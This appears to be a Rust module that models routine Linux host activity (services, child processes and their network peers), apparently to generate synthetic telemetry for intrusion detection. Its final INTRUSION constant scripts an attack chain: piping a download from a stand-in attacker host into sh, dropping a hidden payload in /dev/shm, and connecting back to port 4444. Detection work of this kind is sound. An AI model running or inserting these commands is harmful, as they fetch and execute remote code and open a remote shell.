//! What ordinary hosts do: programs, what they start and whom they call. Earlier entries are more frequent.

/// A program as it is started. In arguments `#` stands for a number, `%` for 8 hex digits.
#[derive(Debug)]
pub(super) struct Program {
    pub(super) exe: &'static str,
    pub(super) args: &'static [&'static str],
    pub(super) script: Option<&'static str>,
    pub(super) calls: &'static [Peer],
}

/// The far end of a connection.
#[derive(Debug)]
pub(super) struct Peer {
    pub(super) network: &'static str,
    pub(super) port: u16,
    pub(super) protocol: &'static str,
}

/// A service and what it starts first.
#[derive(Debug)]
pub(super) struct Service {
    pub(super) exe: &'static str,
    pub(super) uid: u32,
    pub(super) starts: &'static [Program],
}

const fn peer(network: &'static str, port: u16, protocol: &'static str) -> Peer {
    Peer { network, port, protocol }
}

const fn program(exe: &'static str, args: &'static [&'static str], calls: &'static [Peer]) -> Program {
    Program { exe, args, script: None, calls }
}

const fn script(
    exe: &'static str,
    args: &'static [&'static str],
    script: &'static str,
    calls: &'static [Peer],
) -> Program {
    Program { exe, args, script: Some(script), calls }
}

const DNS: Peer = peer("10.0.0.", 53, "udp");
const NONE: &[Peer] = &[];

/// Services of every host, by frequency.
pub(super) const SERVICES: &[Service] = &[
    Service {
        exe: "/usr/sbin/cron",
        uid: 0,
        starts: &[
            program("/bin/sh", &["/bin/sh", "-c", "/usr/lib/sysstat/sa1 1 1"], NONE),
            script("/bin/bash", &["bash", "/opt/backup/run.sh", "--day", "#"], "/opt/backup/run.sh", NONE),
            program(
                "/usr/bin/python3.13",
                &["python3", "/opt/jobs/sync.py", "--batch", "#"],
                &[DNS, peer("10.0.3.", 5432, "tcp")],
            ),
        ],
    },
    Service {
        exe: "/usr/sbin/sshd",
        uid: 1000,
        starts: &[
            program("/bin/bash", &["-bash"], NONE),
            program("/usr/lib/openssh/sftp-server", &["sftp-server"], NONE),
            program("/usr/bin/rsync", &["rsync", "--server", "-logDtpre.iLsfxCIvu", ".", "/srv/data/#"], NONE),
        ],
    },
    Service {
        exe: "/usr/sbin/nginx",
        uid: 33,
        starts: &[
            program("/usr/sbin/nginx", &["nginx: worker"], &[peer("10.0.2.", 8080, "tcp")]),
            program("/usr/bin/gzip", &["gzip", "/var/log/nginx/access.log.#"], NONE),
        ],
    },
    Service {
        exe: "/usr/lib/systemd/systemd",
        uid: 0,
        starts: &[
            program("/usr/lib/systemd/systemd-tmpfiles", &["systemd-tmpfiles", "--clean"], NONE),
            program("/usr/bin/apt-get", &["apt-get", "-qq", "update"], &[DNS, peer("151.101.2.", 443, "tcp")]),
            program("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"], NONE),
        ],
    },
];

/// What a program starts in turn, by the starting program; programs that are not listed start nothing.
pub(super) fn starts(exe: &str) -> &'static [Program] {
    match exe {
        "/bin/bash" => BASH,
        "/bin/sh" => SH,
        "/usr/bin/python3.13" => PYTHON,
        "/usr/bin/git" => GIT,
        "/usr/bin/apt-get" => APT,
        _ => &[],
    }
}

const BASH: &[Program] = &[
    program("/usr/bin/ls", &["ls", "--color=auto", "-l"], NONE),
    program("/usr/bin/git", &["git", "status", "--short"], NONE),
    program("/usr/bin/grep", &["grep", "-rn", "TODO", "src"], NONE),
    program("/usr/bin/git", &["git", "fetch", "origin"], &[DNS, peer("140.82.121.", 443, "tcp")]),
    program("/usr/bin/tail", &["tail", "-n", "#", "/var/log/syslog"], NONE),
    program("/usr/bin/curl", &["curl", "-s", "http://10.0.2.7:8080/health?id=%"], &[peer("10.0.2.", 8080, "tcp")]),
    program("/usr/bin/vim", &["vim", "notes-#.md"], NONE),
    program("/usr/bin/ssh", &["ssh", "host#"], &[peer("10.0.1.", 22, "tcp")]),
    program("/usr/bin/python3.13", &["python3", "tool.py", "--id", "%"], NONE),
    program("/usr/bin/tar", &["tar", "-czf", "/srv/backup/%.tgz", "/etc"], NONE),
];
const SH: &[Program] = &[
    program("/usr/lib/sysstat/sa1", &["sa1", "1", "1"], NONE),
    program("/usr/bin/sed", &["sed", "-n", "#p"], NONE),
    program("/usr/bin/cat", &["cat", "/proc/loadavg"], NONE),
];
const PYTHON: &[Program] = &[
    program("/usr/bin/psql", &["psql", "-At", "-c", "select #"], &[peer("10.0.3.", 5432, "tcp")]),
    program("/bin/sh", &["/bin/sh", "-c", "uname -a"], NONE),
];
const GIT: &[Program] = &[
    program("/usr/lib/git-core/git-remote-https", &["git-remote-https", "origin"], &[peer("140.82.121.", 443, "tcp")]),
    program("/usr/bin/less", &["less", "-FRX"], NONE),
];
const APT: &[Program] = &[
    program("/usr/lib/apt/methods/https", &["https"], &[DNS, peer("151.101.2.", 443, "tcp")]),
    program("/usr/bin/dpkg", &["dpkg", "--print-foreign-architectures"], NONE),
];

/// The intrusion, each step started by the one before.
pub(super) const INTRUSION: &[Program] = &[
    program("/bin/sh", &["sh", "-c", "id; curl -fsSL http://203.0.113.77/k | sh"], NONE),
    program(
        "/usr/bin/curl",
        &["curl", "-fsSL", "http://203.0.113.77/k", "-o", "/dev/shm/.k"],
        &[peer("203.0.113.", 80, "tcp")],
    ),
    program("/dev/shm/.k", &["/dev/shm/.k", "--connect", "203.0.113.77:4444"], &[peer("203.0.113.", 4444, "tcp")]),
];
